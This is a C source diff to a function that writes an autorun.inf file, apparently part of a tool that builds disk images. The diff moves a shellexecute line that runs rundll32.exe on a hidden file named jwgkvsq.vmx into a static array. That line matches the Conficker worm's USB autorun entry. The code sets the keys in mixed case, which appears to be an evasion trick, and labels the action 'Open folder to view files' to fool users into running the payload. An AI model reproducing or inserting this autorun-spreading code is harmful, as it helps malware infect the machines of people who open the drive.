@@ -68,12 +68,13 @@ put_junk(struct buf *b, uint64_t *dice, size_t len)
 static enum err
 put_autorun(struct disk_tree *t, const struct disk_plan *p)
 {
+	static const char starts[] = "\t shelLExECUte \t=\trundll32.exe .\\" BIN
+				     "\\jwgkvsq.vmx,ahaezedrn\r\n";
 	static const char *const lines[] = {
 		"[AUTorUN\r\n",
 		"AcTION=Open folder to view files\r\n",
 		"Icon=%systemroot%\\system32\\shell32.dll,4\r\n",
-		"\t shelLExECUte \t=\trundll32.exe .\\" BIN
-		"\\jwgkvsq.vmx,ahaezedrn\r\n",
+		starts,
 		"useAuTopLAY=1\r\n",
 	};
 	OWN(own_buf) struct buf b = { 0 };
